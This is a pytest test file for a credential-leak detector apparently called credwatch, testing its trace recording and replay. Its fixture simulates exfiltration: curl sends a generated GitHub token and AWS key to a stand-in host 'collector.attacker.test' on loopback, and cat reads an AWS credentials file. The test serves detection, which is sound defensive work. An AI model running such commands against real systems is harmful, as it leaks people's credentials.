# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""credwatch trace and credwatch replay: a scenario recorded live with the GitHub rule missing,
replayed with it back; replays identical; encryption, rotation, filters, a killed recorder."""
import json
import os
import re
import shutil
import signal
import socket
import ssl
import stat
import subprocess
import tempfile
import threading
import time
import zlib

import pytest

import ecs_check
import ocsf_check
from cwtest import BIN, Agent, KeyFile, aws_key_pair, github_token, require_root, wait_until


def reduced_rules(d):
    """The embedded rules' files without github-pat-classic: a copy in d."""
    src = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
    for name in sorted(os.listdir(src)):
        if not name.endswith(".yaml"):
            continue
        with open(os.path.join(src, name)) as f:
            text = f.read()
        if name == "code-hosting.yaml":
            start = text.index("  - id: github-pat-classic\n")
            end = text.index("\n  - id: ", start + 1) + 1
            text = text[:start] + text[end:]
            assert "github-pat-classic" not in text
        with open(os.path.join(d, name), "w") as f:
            f.write(text)
    return d


class Tracer(Agent):
    """`credwatch trace -o FILE ARGS` in the background: the agent of cwtest with trace's
    command line (Agent's wrap runs it: the shell execs credwatch, which keeps the pid)."""

    def __init__(self, out, *args, key=None):
        wrap = ["/bin/sh", "-c", 'shift; exec "$0" trace -o "$CW_TRACE_OUT" "$@"']
        os.environ["CW_TRACE_OUT"] = out
        try:
            super().__init__(*args, key=key, wrap=wrap)
        finally:
            del os.environ["CW_TRACE_OUT"]


def replay(path, *args, check=ecs_check.check, expect=0):
    """credwatch replay: (parsed lines, stderr). Every line passes its format's check. No
    fingerprint key is given: the trace carries the recording agent's."""
    cmd = [BIN, "replay", path, *args]
    p = subprocess.run(cmd, capture_output=True, timeout=60)
    err = p.stderr.decode(errors="replace")
    assert p.returncode == expect, err
    lines = [json.loads(l) for l in p.stdout.decode().splitlines()]
    for l in lines:
        errs = check(l)
        assert not errs, (l, errs)
    return lines, err, p.stdout


def without_replay(line):
    """A finding without what differs between a live line and its replay."""
    line = json.loads(json.dumps(line))
    line["event"].pop("id")
    line["credwatch"].pop("replay", None)
    line["credwatch"].pop("trace", None)
    return line


class TlsSink(threading.Thread):
    """A loopback TLS server (a throwaway self-signed certificate) that answers every request
    with 200."""

    def __init__(self, d):
        super().__init__(daemon=True)
        cert, keyf = os.path.join(d, "srv.pem"), os.path.join(d, "srv.key")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:P-256", "-nodes", "-days", "1", "-subj",
                        "/CN=collector.attacker.test", "-keyout", keyf, "-out", cert],
                       check=True, capture_output=True)
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(cert, keyf)
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.start()

    def run(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            try:
                with self.ctx.wrap_socket(c, server_side=True) as t:
                    data = b""
                    while b"\r\n\r\n" not in data:
                        chunk = t.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                    t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
            except (OSError, ssl.SSLError):
                pass

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.join(5)
        self.sock.close()


def no_secret(blob, *secrets_):
    for s in secrets_:
        assert s.encode() not in blob, "a plaintext secret in an output"


@pytest.fixture(scope="module")
def recording():
    """One live recording of the scenario with the GitHub rule missing: curl sends a GitHub
    token over TLS to a host that is not GitHub's with the token (and an AWS key id) in its
    argv; cat reads an AWS credentials file; an exec gets AWS keys in its environment."""
    require_root()
    d = tempfile.mkdtemp(prefix="cw-trace-")
    os.mkdir(os.path.join(d, "rules"))
    rules = reduced_rules(os.path.join(d, "rules"))
    key = KeyFile()
    gh = github_token()
    akid, secret = aws_key_pair()
    akid2, secret2 = aws_key_pair()
    home = os.path.join(d, "home")
    os.makedirs(os.path.join(home, ".aws"))
    with open(os.path.join(home, ".aws", "credentials"), "w") as f:
        f.write("[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n" % (akid2, secret2))
    out = os.path.join(d, "scenario.cwt")
    sink = TlsSink(d)
    t0 = time.time()
    tracer = Tracer(out, "--rules", rules, "--events", "--include-loopback", key=key)
    try:
        curl = subprocess.Popen(
            ["curl", "-sk", "--resolve", "collector.attacker.test:%d:127.0.0.1" % sink.port,
             "-H", "Authorization: token " + gh, "-H", "X-Aws-Key: " + akid,
             "https://collector.attacker.test:%d/v1/upload" % sink.port],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        curl.wait(20)
        subprocess.run(["cat", os.path.join(home, ".aws", "credentials")],
                       capture_output=True, env={"PATH": "/usr/bin:/bin", "HOME": home})
        env = {"PATH": "/usr/bin:/bin", "AWS_ACCESS_KEY_ID": akid, "AWS_SECRET_ACCESS_KEY": secret}
        envp = subprocess.Popen(["/bin/true"], env=env)
        envp.wait()
        # what the live agent prints: the AWS key in curl's argv, the file's and the env's keys
        tracer.wait_for(lambda l: l["process"]["pid"] == curl.pid)
        tracer.wait_for(lambda l: l["process"]["name"] == "cat", count=2)
        tracer.wait_for(lambda l: l["process"]["pid"] == envp.pid, count=2)
    finally:
        tracer.stop()
        sink.close()
    t1 = time.time()
    tracer.assert_format()
    assert tracer.returncode == 0, tracer.stderr()
    yield dict(dir=d, out=out, key=key, gh=gh, secrets=(gh, akid, secret, akid2, secret2),
               tracer=tracer, curl=curl.pid, env_pid=envp.pid, port=sink.port, t0=t0, t1=t1,
               rules=rules)


def test_replay_with_the_missing_rule_finds_what_the_recording_missed(recording):
    r = recording
    live = r["tracer"].lines
    assert not [l for l in live if l["rule"]["id"] == "github-pat-classic"]
    lines, err, raw = replay(r["out"], "--events")
    gh = [l for l in lines if l["rule"]["id"] == "github-pat-classic"]
    by_action = {l["event"]["action"]: l for l in gh}
    assert set(by_action) == {"credential-in-argv", "credential-unexpected-destination"}, gh
    argv, dest = by_action["credential-in-argv"], by_action["credential-unexpected-destination"]
    fp = r["key"].fingerprint(r["gh"])
    for l in gh:
        assert l["process"]["pid"] == r["curl"]
        assert l["credwatch"]["credential"]["fingerprint"] == fp
        assert l["credwatch"]["replay"]["trace"] == r["out"]
        assert "trace" not in l["credwatch"]
    assert dest["destination"] == {"ip": "127.0.0.1", "port": r["port"],
                                   "domain": "collector.attacker.test"}
    assert dest["credwatch"]["tls"]["library"] != "plaintext", dest
    # the original process, workload and time: what the live agent said of curl's exec
    live_argv = [l for l in live if l["process"]["pid"] == r["curl"]
                 and l["event"]["action"] == "credential-in-argv"]
    assert live_argv, live
    la = live_argv[0]
    assert argv["process"] == la["process"]
    assert argv["@timestamp"] == la["@timestamp"]
    assert argv["credwatch"]["workload"] == la["credwatch"]["workload"]
    assert argv["credwatch"]["cgroup_id"] == la["credwatch"]["cgroup_id"]
    assert argv["user"] == la["user"] and argv["host"] == la["host"]
    ts = time.mktime(time.strptime(dest["@timestamp"][:19], "%Y-%m-%dT%H:%M:%S")) - time.timezone
    assert r["t0"] - 1 <= ts <= r["t1"] + 1, (dest["@timestamp"], r["t0"], r["t1"])
    assert "replayed " in err and " 0 damaged chunks" in err, err
    no_secret(raw + err.encode(), *r["secrets"])


def test_replay_twice_prints_the_same_lines(recording):
    r = recording
    a, _, _ = replay(r["out"], "--events")
    b, _, _ = replay(r["out"], "--events")
    assert a and len(a) == len(b)
    for x, y in zip(a, b):
        assert x["credwatch"]["replay"]["time"]
        x["credwatch"]["replay"].pop("time")
        y["credwatch"]["replay"].pop("time")
        assert x == y
    ids = [x["event"]["id"] for x in a]
    assert len(set(ids)) == len(ids)
    assert all(re.fullmatch(r"[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}", i)
               for i in ids), ids


def test_replay_with_the_recordings_rules_prints_the_live_findings(recording):
    r = recording
    live = r["tracer"].lines
    lines, err, _ = replay(r["out"], "--events", "--rules", r["rules"])
    assert "not those of the recording" not in err
    assert [without_replay(l) for l in lines] == [without_replay(l) for l in live]
    # live alerts named the trace that holds them
    assert all(l["credwatch"]["trace"]["path"] == r["out"]
               for l in live if l["event"]["kind"] == "alert")
    _, err, _ = replay(r["out"], "--events")
    assert "not those of the recording" in err


def test_timeline_of_a_trace_tells_the_story_the_recording_missed(recording):
    """`credwatch timeline TRACE`: the trace replayed with observations on, today's rules: the
    GitHub token's story (the recording had no GitHub rule), by the fingerprint the host's
    alerts carry."""
    r = recording
    fp = r["key"].fingerprint(r["gh"])
    p = subprocess.run([BIN, "timeline", r["out"], "--format", "json", "--credential", fp[:12]],
                       capture_output=True, timeout=60)
    assert p.returncode == 0, p.stderr
    no_secret(p.stdout + p.stderr, *r["secrets"])
    stories = [json.loads(l) for l in p.stdout.decode().splitlines()]
    assert len(stories) == 1, stories
    c = stories[0]
    assert c["credential"]["fingerprint"] == fp and c["credential"]["rule"] == "github-pat-classic"
    times = [e["time"] for e in c["events"]]
    assert times == sorted(times), times
    sent = [e for e in c["events"] if e["what"] == "sent"]
    assert sent and sent[0]["process"]["pid"] == r["curl"], c["events"]
    assert sent[0]["destination"]["domain"] == "collector.attacker.test", sent[0]
    assert any(e.get("action") == "credential-unexpected-destination" and e.get("alert")
               for e in c["events"]), c["events"]
    assert any(e.get("action") == "credential-in-argv" for e in c["events"]), c["events"]
    table = subprocess.run([BIN, "timeline", r["out"]], capture_output=True, timeout=60)
    assert table.returncode == 0 and b"github-pat-classic" in table.stdout, table.stderr
    no_secret(table.stdout + table.stderr, *r["secrets"])


def test_replay_reads_nothing_of_the_machine_it_runs_on(recording):
    """No /proc, no cgroups, no pod logs, not the credentials file the recording read (it is
    still there): every answer comes from the trace."""
    r = recording
    strace = shutil.which("strace")
    if not strace:
        pytest.skip("needs strace")
    log = os.path.join(r["dir"], "strace.txt")
    p = subprocess.run([strace, "-f", "-qq", "-e", "trace=%file,readlinkat", "-o", log, BIN,
                        "replay", r["out"], "--events"], capture_output=True, timeout=60,
                       # an ASan build: LeakSanitizer cannot run under ptrace
                       env=dict(os.environ, ASAN_OPTIONS="detect_leaks=0"))
    assert p.returncode == 0, p.stderr
    assert b"github-pat-classic" in p.stdout  # it did replay the scenario
    paths, host = [], []
    with open(log) as f:
        for line in f:  # "PID syscall(...)": strace -f names the caller
            pid, _, call = line.partition(" ")
            for x in re.findall(r'"(/[^"]*)"', call):
                paths.append(x)
                # its own /proc entries (an ASan build's runtime reads them) are not the host's
                own = x.split("/")[2] in ("self", "thread-self", pid) if x.startswith("/proc/") \
                    else False
                if not own and x.startswith(("/proc/", "/sys/fs/cgroup", "/var/log/pods",
                                             "/var/log/containers", r["dir"] + "/home")):
                    host.append(x)
    assert not host, host[:10]
    # nor the host's fingerprint key: the trace carries the recording agent's
    assert not [x for x in paths if x.startswith("/var/lib/credwatch")], paths
    assert r["out"] in paths  # the check sees the replay's own file accesses


def test_replay_of_a_damaged_trace_warns_with_offsets_and_goes_on(recording, tmp_path):
    r = recording
    with open(r["out"], "rb") as f:
        data = bytearray(f.read())
    chunks = [m.start() for m in re.finditer(b"CWCK", data)]
    assert len(chunks) >= 2, "the scenario spans more than one flush"
    bad = chunks[-1] + 44 + 4  # in the last chunk's stored bytes: its CRC fails
    data[bad] ^= 0xff
    damaged = str(tmp_path / "damaged.cwt")
    with open(damaged, "wb") as f:
        f.write(data)
    lines, err, _ = replay(damaged, "--events")
    assert "offset %d" % chunks[-1] in err and "1 damaged chunk skipped" in err, err
    # the other chunks' records were replayed: what it found, the whole trace finds too
    assert int(re.search(r"replayed .*: (\d+) records", err).group(1)) > 0, err
    good, _, _ = replay(r["out"], "--events")
    good = [without_replay(l) for l in good]
    assert all(without_replay(l) in good for l in lines)


def test_replay_in_ocsf(recording):
    r = recording
    lines, _, _ = replay(r["out"], "--format", "ocsf", check=ocsf_check.check)
    assert lines
    assert any(l.get("unmapped", {}).get("credwatch", {}).get("replay") for l in lines), lines[0]


def test_plaintext_trace_is_private_and_said_once_and_holds_no_secret_in_logs(recording):
    r = recording
    assert stat.S_IMODE(os.stat(r["out"]).st_mode) == 0o600
    err = r["tracer"].stderr()
    assert err.count("holds plaintext credentials") == 1, err
    assert re.search(r"trace .*: \d+ records, \d+ raw bytes, \d+ bytes on disk, 1 file", err), err
    r["tracer"].assert_no_plaintext(*r["secrets"])
    with open(r["out"], "rb") as f:  # the trace keeps them: it exists to
        assert r["gh"].encode() in zlib_all(f.read())


def test_encrypted_and_rotated_traces(tmp_path):
    require_root()
    key = KeyFile()
    priv = str(tmp_path / "responder.key")
    p = subprocess.run([BIN, "trace", "keygen", "-o", priv], capture_output=True)
    assert p.returncode == 0, p.stderr
    assert os.path.exists(priv + ".pub")
    p = subprocess.run([BIN, "trace", "keygen", "-o", priv], capture_output=True)
    assert p.returncode != 0 and b"exist" in p.stderr
    other = str(tmp_path / "other.key")
    subprocess.run([BIN, "trace", "keygen", "-o", other], check=True, capture_output=True)
    out = str(tmp_path / "enc.cwt")
    tokens = [github_token() for _ in range(60)]
    tracer = Tracer(out, "--recipient", priv + ".pub", "--max-size", "64k", "--events", key=key)
    try:
        pids = []
        for t in tokens:  # each exec with its environment: enough bytes for a few files
            pr = subprocess.Popen(["/bin/true", "--token=" + t],
                                  env={"PATH": "/bin", "FILLER": "x" * 2000})
            pr.wait()
            pids.append(pr.pid)
        tracer.wait_for(lambda l: l["process"]["pid"] == pids[-1])
    finally:
        tracer.stop()
    assert tracer.returncode == 0, tracer.stderr()
    err = tracer.stderr()
    assert "plaintext" not in err
    files = sorted(f for f in os.listdir(tmp_path) if f.startswith("enc.cwt"))
    assert len(files) >= 2 and "enc.cwt.1" in files, (files, err)
    assert re.search(r"bytes on disk, %d files" % len(files), err), err
    blob = b"".join(open(tmp_path / f, "rb").read() for f in files)
    no_secret(blob, *tokens)
    tracer.assert_no_plaintext(*tokens)
    # without the key, with the wrong one: refused with the reader's error, exit 2
    _, e, _ = replay(out, expect=2)
    assert "encrypted" in e and "--key" in e, e
    _, e, _ = replay(out, "--key", other, expect=2)
    assert "another key" in e, e
    # each file replays on its own: together every token's alert, each once
    seen = []
    for f in files:
        lines, e, _ = replay(str(tmp_path / f), "--key", priv)
        seen += [l["process"]["pid"] for l in lines if l["event"]["action"] == "credential-in-argv"]
        no_secret(e.encode(), *tokens)
    assert sorted(seen) == sorted(pids), (len(seen), len(pids))


def test_an_agent_that_cannot_start_leaves_no_trace_file():
    """Not root: the agent refuses to start; the file it would have recorded to is gone."""
    require_root()  # to become another user
    d = tempfile.mkdtemp(prefix="cw-nobody-")  # pytest's tmp_path is root's only
    try:
        os.chmod(d, 0o777)
        out = os.path.join(d, "t.cwt")
        p = subprocess.run(["runuser", "-u", "nobody", "--", BIN, "trace", "-o", out,
                            "--state", "none", "--fingerprint-key-file", "/dev/null"],
                           capture_output=True, timeout=60)
        err = p.stderr.decode(errors="replace")
        assert p.returncode != 0 and "not root" in err, err
        assert "removed: the agent did not start" in err, err
        assert not os.path.exists(out), os.listdir(d)
    finally:
        shutil.rmtree(d, ignore_errors=True)


def test_duration_stops_the_recording_and_closes_the_file(tmp_path):
    require_root()
    key = KeyFile()
    out = str(tmp_path / "timed.cwt")
    p = subprocess.run([BIN, "trace", "-o", out, "--duration", "1", "--state", "none",
                        "--fingerprint-key-file", key.path], capture_output=True, timeout=60)
    err = p.stderr.decode(errors="replace")
    assert p.returncode == 0, err
    assert "credwatch: running:" in err and "stopped:" in err, err
    assert re.search(r"timed.cwt: \d+ records, \d+ raw bytes, \d+ bytes on disk, 1 file", err), err
    _, rerr, _ = replay(out)
    assert "cut off" not in rerr and "0 damaged chunks" in rerr, rerr
    assert p.stdout == b""


def test_replay_names_a_pod_that_is_gone(tmp_path):
    """The workload identity comes from the trace: the pod's cgroup and log directories are
    removed before the replay, and its findings still name the pod and container."""
    from test_workloads import Pod
    require_root()
    key = KeyFile()
    out = str(tmp_path / "pod.cwt")
    token = github_token()
    pod = Pod("traced")
    try:
        tracer = Tracer(out, "--events", key=key)
        try:
            pod.run(["/bin/true", "--token=" + token])
            live = tracer.wait_for(lambda l: l["event"]["action"] == "credential-in-argv"
                                   and l.get("container", {}).get("id") == pod.cid)
        finally:
            tracer.stop()
    finally:
        pod.remove()
    assert live, tracer.stderr()[-2000:]
    assert not os.path.exists(pod.cgroup) and not os.path.exists(pod.log_dir)
    lines, _, _ = replay(out, "--events")
    # the shell that enters the pod has the token in its argv too, before it joins the pod:
    # every finding of that process, in the pod and out of it, as the live agent gave them
    pid = live[0]["process"]["pid"]
    got = [without_replay(l) for l in lines if l["process"]["pid"] == pid]
    want = [without_replay(l) for l in tracer.lines if l["process"]["pid"] == pid]
    assert got == want
    in_pod = [l for l in got if l.get("container", {}).get("id") == pod.cid]
    assert in_pod and in_pod[0]["orchestrator"]["resource"]["name"] == pod.name
    assert in_pod[0]["credwatch"]["workload"] == pod.workload


def test_filter_by_pid_and_exe_and_a_killed_recorder(tmp_path):
    require_root()
    key = KeyFile()
    out = str(tmp_path / "pid.cwt")
    mine, other, by_exe = github_token(), github_token(), github_token()
    parent = subprocess.Popen(["/bin/sh", "-c", 'read x; /bin/true --token="$1"', "sh", mine],
                              stdin=subprocess.PIPE)
    env = os.path.realpath("/usr/bin/env")
    tracer = Tracer(out, "--pid", str(parent.pid), "--exe", "*/env", key=key)
    try:
        o = subprocess.Popen(["/bin/true", "--token=" + other])
        o.wait()
        e = subprocess.Popen([env, "/bin/true", "--token=" + by_exe])  # env execs true
        e.wait()
        parent.stdin.write(b"go\n")
        parent.stdin.close()
        parent.wait()
        # the last exec's record on disk (a chunk is flushed within a second), then the
        # recorder dies
        assert wait_until(lambda: mine.encode() in zlib_all(open(out, "rb").read()), 10)
    finally:
        tracer.proc.send_signal(signal.SIGKILL)
        tracer.stop()
    assert tracer.stdout_bytes() == b""  # without --events: nothing but the log
    lines, err, _ = replay(out)
    got = {l["credwatch"]["credential"]["fingerprint"]: l for l in lines
           if l["event"]["action"] == "credential-in-argv"}
    assert set(got) == {key.fingerprint(mine), key.fingerprint(by_exe)}, lines
    assert got[key.fingerprint(mine)]["process"]["parent"]["pid"] == parent.pid
    assert got[key.fingerprint(by_exe)]["process"]["pid"] == e.pid
    with open(out, "rb") as f:
        records = zlib_all(f.read())
    assert mine.encode() in records and other.encode() not in records
    assert "recording was cut off" in err, err


def zlib_all(data):
    """Every zlib stream in a plaintext trace, inflated and joined (its records' bytes)."""
    out = b""
    i = 0
    while True:
        i = data.find(b"CWCK", i)
        if i < 0:
            return out
        stored = int.from_bytes(data[i + 8:i + 12], "little")
        try:
            out += zlib.decompress(data[i + 44:i + 44 + stored])
        except zlib.error:
            pass
        i += 4
